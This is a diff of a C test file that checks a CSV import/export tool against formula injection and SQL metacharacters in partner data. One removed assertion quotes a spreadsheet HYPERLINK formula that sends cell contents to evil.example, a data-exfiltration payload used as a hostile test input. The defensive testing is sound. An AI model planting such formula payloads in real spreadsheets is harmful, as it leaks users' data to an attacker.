@@ -370,14 +370,18 @@ Test(bad_input, csv_injection_in_the_network_is_neutralised, .init = setup, .fin
     char db[1024];
     snprintf(db, sizeof db, "%s/hostile.db", env.dir);
     tu_run r = rel_bilan(db, "network", "import", rel_fixture("bad/network-hostile"), NULL);
+    cr_assert_eq(r.status, 65, "%s", r.err);
+    cr_assert(strstr(r.err, "partners.csv:2:1: id: "), "%s", r.err);
+    tu_run_free(&r);
+    cr_assert_eq(rel_count(db, "SELECT COUNT(*) FROM partner"), 0);
+    /* With valid ids, formulas in names never reach an export cell unquoted. */
+    r = rel_bilan(db, "network", "import", rel_fixture("bad/network-hostile-names"), NULL);
     cr_assert_eq(r.status, 0, "%s", r.err);
     tu_run_free(&r);
     ingest_ok(db, rel_fixture("ingest/pr-2025q1.csv"));
     char *e = rel_export(db);
     assert_no_formula("export usage", e);
-    cr_assert(strstr(e, "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Cliquez\"\")\","
-                        "\"'@SUM(1+1)\",\"'+presse\",2025-01,Total_Item_Requests,100\n"),
-              "%s", e);
+    cr_assert(strstr(e, "ca-test,bm-centre,presse,2025-01,Total_Item_Requests,100\n"), "%s", e);
     free(e);
     assert_sound(db);
 }
@@ -418,7 +422,7 @@ Test(bad_input, sql_metacharacters_in_the_network_are_data, .init = setup, .fini
 {
     char db[1024];
     snprintf(db, sizeof db, "%s/hostile.db", env.dir);
-    tu_run r = rel_bilan(db, "network", "import", rel_fixture("bad/network-hostile"), NULL);
+    tu_run r = rel_bilan(db, "network", "import", rel_fixture("bad/network-hostile-names"), NULL);
     cr_assert_eq(r.status, 0, "%s", r.err);
     tu_run_free(&r);
     ingest_ok(db, rel_fixture("ingest/pr-2025q1.csv"));
